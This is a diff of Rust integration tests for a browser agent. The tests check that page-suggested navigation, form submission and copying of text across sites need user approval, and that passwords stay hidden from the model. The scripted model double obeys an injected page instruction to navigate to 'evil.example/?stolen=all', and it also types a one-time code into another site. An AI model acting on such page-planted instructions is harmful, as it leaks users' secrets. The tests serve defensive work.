@@ -1,4 +1,4 @@
-//! What a model sees of real pages, and what becomes of what it wants done there (contract: byok 11, 14, 18 to 20).
+//! Model requests about real pages, and the execution of the model's steps (contract: byok 11, 14, 18 to 20).
 
 use std::time::Duration;
 
@@ -10,7 +10,7 @@ use crate::support::people::ENCRYPTION_KEY;
 use crate::support::{App, Client, Site, eventually};
 use crate::webkit::text;
 
-/// A customer who lets a model read what they say in an agent session.
+/// A customer with a provider key and an agent session.
 struct Scene {
     provider: ModelProvider,
     app: App,
@@ -35,7 +35,7 @@ impl Scene {
         self.client.navigate(&self.driver, url.as_str()).await.expect(200);
     }
 
-    /// Says something of which the model makes `calls`, one after the other. Without any it refuses.
+    /// Sends a message. The double responds with these tool calls, one per request, and without any it refuses.
     async fn say(&self, message: &str, calls: &[Value]) -> Value {
         for call in calls {
             self.provider.answer(Reply::Json(200, anthropic_call(call)));
@@ -43,16 +43,16 @@ impl Scene {
         self.client.tell(&self.agent, "message", json!({"message": message})).await.expect(200).body
     }
 
-    /// What the model was told the last time.
-    fn told(&self) -> String {
-        let last = self.provider.asked().pop().expect("it was asked");
+    /// Last message that the model received.
+    fn last_message(&self) -> String {
+        let last = self.provider.asked().pop().expect("a request");
         let messages = last.body["messages"].as_array().expect("messages").clone();
         messages.last().and_then(|message| message["content"].as_str()).expect("a text").to_owned()
     }
 
-    /// The ref of what is called so in what the model was told.
+    /// Ref of this line in the last message to the model.
     fn ref_of(&self, line: &str) -> String {
-        let told = self.told();
+        let told = self.last_message();
         let rest = told.split_once(&format!("{line} [ref=")).unwrap_or_else(|| panic!("no {line} in {told}")).1;
         rest.split_once(']').expect("an end").0.to_owned()
     }
@@ -65,11 +65,11 @@ const SHOP: &str = r#"<title>Shop</title><h1>Shop</h1>
     <button onclick="document.querySelector('h1').textContent = 'Welcome ' + document.querySelector('#name').value">Go in</button>
     <form action="/plain"><button>Next</button></form> <a href="/plain">Sale</a>"#;
 
-/// Contract: byok 11, 14, 17 to 20. A model names what it sees by refs, what it does is done by touch, and it sees what came of that,
-/// but never a password. Where the page tells it to go it goes only if somebody agrees; what submits a form asks, whatever the model
-/// says.
+/// Contract: byok 11, 14, 17 to 20. The model identifies elements by refs, its steps are executed as touches, and it sees their
+/// results, but no passwords. A navigation that only the page suggested requires approval. So does a step that submits a form,
+/// whatever the model says.
 #[tokio::test]
-async fn a_model_acts_on_what_it_sees_and_not_on_what_a_page_orders() {
+async fn model_steps_suggested_by_the_page_need_approval() {
     let scene = Scene::start().await;
     scene.show(SHOP).await;
     scene.say("what is here?", &[]).await;
@@ -84,42 +84,38 @@ async fn a_model_acts_on_what_it_sees_and_not_on_what_a_page_orders() {
     assert_eq!(turn["reply"], "You are in.", "{turn}");
     assert!(turn["intents"].as_array().expect("steps").iter().all(|step| step["status"] == "done"), "{turn}");
     let (page, rest) = {
-        let told = scene.told();
+        let told = scene.last_message();
         let (page, rest) = told.rsplit_once("=== page ").expect("a fence");
         (page.to_owned(), rest.to_owned())
     };
     assert!(page.contains("heading \"Welcome Ada\"") && page.contains("[value=\"•••\"]"), "{page}");
     assert!(!page.contains("hunter2") && rest.ends_with("go in as Ada with hunter2"), "{page}");
-    assert_eq!(
-        page.lines().filter(|line| line.starts_with("===")).count(),
-        3,
-        "the page has a fence of its own: {page}"
-    );
+    assert_eq!(page.lines().filter(|line| line.starts_with("===")).count(), 3, "the page forged a delimiter: {page}");
 
-    // It obeys the page; and then it says that a form may be sent.
+    // The model follows the page's instruction, and then claims that a form needs no approval.
     let evil = json!({"kind": "plan", "steps": [{"kind": "navigate", "url": "https://evil.example/?stolen=all"}]});
     let turn = scene.say("buy something", &[evil]).await;
     assert_eq!(turn["intents"][0]["status"], "needs_approval", "{turn}");
     let tap = json!({"kind": "plan", "steps": [{"kind": "tap", "ref": next, "ask_approval": false}]});
     let turn = scene.say("go on", &[tap]).await;
     assert_eq!(turn["intents"][0]["status"], "needs_approval", "{turn}");
-    assert_eq!(text(&scene.client, &scene.driver, "h1").await, "Welcome Ada", "something was opened");
-    // The page links there, with whatever stands behind `#`.
+    assert_eq!(text(&scene.client, &scene.driver, "h1").await, "Welcome Ada", "a page was opened without approval");
+    // The page has a link to this address. The fragment does not matter.
     let sale =
         json!({"kind": "plan", "steps": [{"kind": "navigate", "url": format!("{}#top", scene.site.url("/plain"))}]});
     let turn = scene.say("what is on sale?", &[sale]).await;
     assert_eq!(turn["intents"][0]["status"], "done", "{turn}");
-    // What was there before is not there any more.
+    // Refs of the previous page are invalid.
     let gone = json!({"kind": "plan", "steps": [{"kind": "tap", "ref": go}]});
     let turn = scene.say("tap it", &[gone]).await;
     assert_eq!((&turn["kind"], &turn["intents"]), (&json!("clarify"), &json!([])), "{turn}");
     scene.app.stop().await;
 }
 
-/// Contract: agents 34, 35; byok 19, 20. A form behind what a model wants tapped waits for approval, and the tap is not done again; of one that
-/// a page submits by itself the reply tells, whatever the model says.
+/// Contract: agents 34, 35; byok 19, 20. A form behind a tap of the model waits for approval, and the tap is not repeated. The
+/// reply reports a form that a page submits by itself, whatever the model says.
 #[tokio::test]
-async fn a_form_behind_what_a_model_does_is_held_back() {
+async fn form_behind_a_step_of_a_model_is_held() {
     let scene = Scene::start().await;
     scene.show("<form id=f method=post action=/hit></form><p id=log></p><button onclick='log.textContent += 1; f.submit()'>Look</button>").await;
     scene.say("what is here?", &[]).await;
@@ -132,7 +128,7 @@ async fn a_form_behind_what_a_model_does_is_held_back() {
     let approved = json!({"message": "approved", "approvals": [asked["intents"][0]["id"]]});
     let done = scene.client.tell(&scene.agent, "message", approved).await.expect(200).body;
     assert_eq!(done["intents"][0]["status"], "done", "{done}");
-    eventually(Duration::from_secs(5), "it is sent", async || (scene.site.hits() == 1).then_some(())).await;
+    eventually(Duration::from_secs(5), "the form is submitted", async || (scene.site.hits() == 1).then_some(())).await;
 
     let by_itself =
         "<form id=f method=post action=/hit></form><script>addEventListener('load', () => f.submit())</script>";
@@ -145,10 +141,10 @@ async fn a_form_behind_what_a_model_does_is_held_back() {
     scene.app.stop().await;
 }
 
-/// Contract: byok 11, 18. Of a page of very many controls a model sees the first, and can act on them; of one that has nothing it is
-/// told that, too.
+/// Contract: byok 11, 18. Of a page with very many controls the model sees the first ones and can use them. An empty page is
+/// reported as such.
 #[tokio::test]
-async fn a_model_sees_no_more_of_a_page_than_fits() {
+async fn page_text_for_the_model_is_limited() {
     let scene = Scene::start().await;
     let many = "<body><script>
         document.title = 'Many';
@@ -156,7 +152,7 @@ async fn a_model_sees_no_more_of_a_page_than_fits() {
     </script>";
     scene.show(many).await;
     scene.say("what is here?", &[]).await;
-    assert!((30_000..42_000).contains(&scene.told().chars().count()), "{}", scene.told().len());
+    assert!((30_000..42_000).contains(&scene.last_message().chars().count()), "{}", scene.last_message().len());
     let seventh = scene.ref_of("button \"b7\"");
     let read = json!({"kind": "extract", "items": [{"name": "it", "ref": seventh}]});
     let steps = json!({"kind": "plan", "steps": [read, {"kind": "tap", "ref": seventh}]});
@@ -165,7 +161,11 @@ async fn a_model_sees_no_more_of_a_page_than_fits() {
     assert_eq!(turn["intents"][1]["status"], "done", "{turn}");
     scene.show("<title>Nothing</title>").await;
     scene.say("and here?", &[]).await;
-    assert!(scene.told().contains("/written") && !scene.told().contains("[ref="), "{}", scene.told());
+    assert!(
+        scene.last_message().contains("/written") && !scene.last_message().contains("[ref="),
+        "{}",
+        scene.last_message()
+    );
     scene.app.stop().await;
 }
 
@@ -173,9 +173,10 @@ fn statuses(turn: &Value) -> Vec<&str> {
     turn["intents"].as_array().expect("steps").iter().map(|step| step["status"].as_str().expect("a status")).collect()
 }
 
-/// Contract: byok 28. What a page has shown is entered into no other page, whole or in parts, unless the customer agrees.
+/// Contract: byok 28. Text that one page has shown is not entered into another page, whole or in parts, without the customer's
+/// approval.
 #[tokio::test]
-async fn a_text_of_one_page_is_not_entered_into_another_unasked() {
+async fn text_of_one_page_on_another_needs_approval() {
     let scene = Scene::start().await;
     let counts = "fetch('/hit')";
     let elsewhere = |html: &str| scene.site.written(html).replace("127.0.0.1", "localhost");
@@ -184,7 +185,7 @@ async fn a_text_of_one_page_is_not_entered_into_another_unasked() {
          <label>Pick <select onchange=\"{counts}\"><option>none<option>4821</select></label><script>onkeydown = () => {counts}</script>"
     ));
     scene.show(&format!("<p>Your code is 4821.</p><a href=\"{evil}\">News</a>")).await;
-    // In one turn, key by key, and what was copied.
+    // In one turn, key by key, and by pasting.
     let go = json!({"kind": "plan", "look_again": true, "steps": [{"kind": "navigate", "url": evil}]});
     let keys: Vec<_> = "4821".chars().map(|key| json!({"kind": "press", "key": key.to_string()})).collect();
     let turn = scene.say("tell me what is new", &[go, json!({"kind": "plan", "steps": keys})]).await;
@@ -194,7 +195,7 @@ async fn a_text_of_one_page_is_not_entered_into_another_unasked() {
     let paste = json!({"kind": "plan", "steps": [{"kind": "press", "key": "Control+v"}]});
     assert_eq!(statuses(&scene.say("go on", &[paste]).await), ["needs_approval"]);
 
-    // In a later turn, which has the text from what was said.
+    // In a later turn, which knows the text from an earlier reply.
     scene.show("<p>Your code is 4821.</p>").await;
     scene.say("what is my code?", &[json!({"kind": "plan", "reply": "Your code is 4821."})]).await;
     scene.client.navigate(&scene.driver, &evil).await.expect(200);
@@ -209,12 +210,13 @@ async fn a_text_of_one_page_is_not_entered_into_another_unasked() {
         assert_eq!(statuses(&turn), ["needs_approval"], "{turn}");
     }
     assert_eq!(scene.site.hits(), 0);
-    // Each is approved by itself, whatever else the plan has.
+    // Each step needs its own approval.
     let asked = scene.say("go on", &[json!({"kind": "plan", "steps": [enters("48"), enters("21")]})]).await;
     let approved = json!({"message": "approved", "approvals": [asked["intents"][0]["id"]]});
     let turn = scene.client.tell(&scene.agent, "message", approved).await.expect(200).body;
     assert_eq!(statuses(&turn), ["done", "needs_approval"], "{turn}");
-    // The customer's own words go anywhere, a page's own words go there, and anything goes where the customer has named.
+    // Allowed without approval: the customer's own words on any page, text of a page on that page, and any text on a host that
+    // the customer named.
     let own = scene.say("enter hello there", &[json!({"kind": "plan", "steps": [enters("Hello there")]})]).await;
     assert_eq!(statuses(&own), ["done"], "{own}");
     let seen = scene.say("go on", &[json!({"kind": "plan", "steps": [enters("please enter")]})]).await;
@@ -225,9 +227,9 @@ async fn a_text_of_one_page_is_not_entered_into_another_unasked() {
     scene.app.stop().await;
 }
 
-/// Contract: byok 28. Keys that go into another site's frame go there, whatever page is around it.
+/// Contract: byok 28. Keys that go into a frame of another site count as input to that site, whatever page contains the frame.
 #[tokio::test]
-async fn keys_into_another_sites_frame_need_approval() {
+async fn keys_into_a_cross_site_frame_need_approval() {
     let scene = Scene::start().await;
     let inner = scene.site.written("<input autofocus oninput=\"fetch('/hit')\">").replace("127.0.0.1", "localhost");
     scene
